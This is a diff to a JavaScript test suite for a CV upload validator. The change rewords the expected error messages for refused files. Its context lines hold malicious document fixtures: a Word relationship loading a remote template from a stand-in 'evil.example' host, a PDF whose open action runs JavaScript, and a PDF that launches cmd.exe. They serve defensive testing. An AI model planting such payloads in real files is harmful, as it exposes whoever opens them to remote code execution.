@@ -52,7 +52,7 @@ describe('a CV is a PDF or a Word file in which nothing runs', () => {
     ['an old Word file, which may hold macros', Buffer.from('d0cf11e0a1b11ae1', 'hex')],
     ['a text', Buffer.from('I am Akinyi and I visit homes.')],
   ])('%s is refused', async (_, data) => {
-    expect(await apply(data, 'cv.docx')).toMatchObject({ status: 415, json: { fields: { cv: 'must be a file of one of these types: pdf, docx' } } });
+    expect(await apply(data, 'cv.docx')).toMatchObject({ status: 415, json: { fields: { cv: 'Choose a file of one of these types: pdf, docx' } } });
   });
 
   const outside = '<Relationship Type="http://x/attachedTemplate" Target="https://evil.example/t.dotm" TargetMode="External"/>';
@@ -64,7 +64,7 @@ describe('a CV is a PDF or a Word file in which nothing runs', () => {
     ['a PDF that runs a script', Buffer.from('%PDF-1.4\n1 0 obj<</OpenAction<</S/JavaScript/JS(app.alert(1))>>>>endobj\n%%EOF')],
     ['a PDF that starts a program', Buffer.from('%PDF-1.4\n1 0 obj<</OpenAction<</S/Launch/F(cmd.exe)>>>>endobj\n%%EOF')],
   ])('%s is refused and said', async (_, data) => {
-    const cv = 'holds something that runs, loads from elsewhere or unpacks to too much: save it as a plain PDF';
+    const cv = 'The file holds something that runs, loads from elsewhere or unpacks to too much: save it as a plain PDF';
     expect(await apply(data, 'cv.docx')).toMatchObject({ status: 415, json: { fields: { cv } } });
   });
 
